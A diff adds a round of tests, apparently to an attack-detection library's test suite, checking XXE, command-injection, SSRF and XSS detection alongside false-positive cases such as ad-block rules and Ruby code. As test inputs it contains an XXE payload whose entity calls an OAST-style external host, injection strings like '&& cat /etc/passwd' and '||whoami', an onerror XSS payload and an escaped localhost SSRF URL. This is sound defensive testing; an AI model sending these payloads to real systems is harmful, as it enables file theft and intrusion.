@@ -1117,3 +1117,23 @@ t.test('rce (seventeenth round): a timing oracle, a shell variable given -c, a r
   // a date in backticks, a template literal printed, a string reversed, a sleep in one branch of a script
   for (const p of ['echo `date`', 'print(`hello`)', "strrev('hello')", 'if [ -f x ]; then sleep 1; fi']) t.notOk(q(p).includes('rce'), p)
 })
+
+// ---- eighteenth round (issue 22): the spent tenth part's XXE misses and false positives ----
+
+t.test("eighteenth round: XXE written with + for blanks; an ad-blocking filter, a backreference host, Ruby's conditions, a program's comment lines, a call statement's line", async (t) => {
+  const xxe = '<?xml+version="1.0"?><!DOCTYPE+foo+[<!ELEMENT+foo+ANY><!ENTITY+xxe+SYSTEM+"http://c7f3k2.oast.example.net">]><foo>&xxe;</foo>'
+  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from(xxe) }).includes('xxe'), 'a DOCTYPE with + for its blanks')
+  t.ok(q('<!DOCTYPE+x+[<!ENTITY+%+xxe+SYSTEM+"http://c7f3k2.oast.example.net/">%xxe;]><x/>').includes('xxe'), 'in a value too')
+  t.notOk(q('<!doctype html><p>a+b=c</p>').includes('xxe'), 'a page with a plus in it')
+  // ad-blocking filters, a redirect rule's backreference, Ruby's modifiers, comment lines, a user script's call
+  t.same(json([{ id: 1, condition: { urlFilter: '||example.com', resourceTypes: ['main_frame'] }, action: { type: 'block' } }]), [], "a filter's ||host")
+  t.same(json([{ id: 4, action: { type: 'redirect', redirect: { regexSubstitution: 'https://\\1?redirected_by_regex' } }, condition: { regexFilter: '^https://www\\.(abc|def)\\.xyz\\.com/' } }]), [], "a rule's https://\\1")
+  const ruby = "    def lookup(file, paths)\n      found, stat = figure_path(file, paths)\n      return nil unless found && stat && stat.mtime\n      @cache[file] = found\n      return found\n    end"
+  t.notOk(q(ruby).includes('rce'), "Ruby's next unless a && stat")
+  const gm = '// This user script should not get access to privileged APIs.\nif (typeof GM_info !== "undefined") {\n  alert("Unexpectedly, GM_info is defined...?");\n}'
+  t.notOk(q(gm).includes('xss'), "a user script's own alert")
+  // the shapes kept
+  for (const p of ['||whoami', '&& cat /etc/passwd', '; ls -la']) t.ok(q(p).includes('rce'), p)
+  t.ok(q('https://\\\\l\\\\o\\\\c\\\\a\\\\l\\\\h\\\\o\\\\s\\\\t/', 'url').includes('ssrf'), 'escapes between a host\'s letters still read')
+  t.ok(q('<img src=x onerror=alert(1)>').includes('xss'), 'markup outside a program')
+})
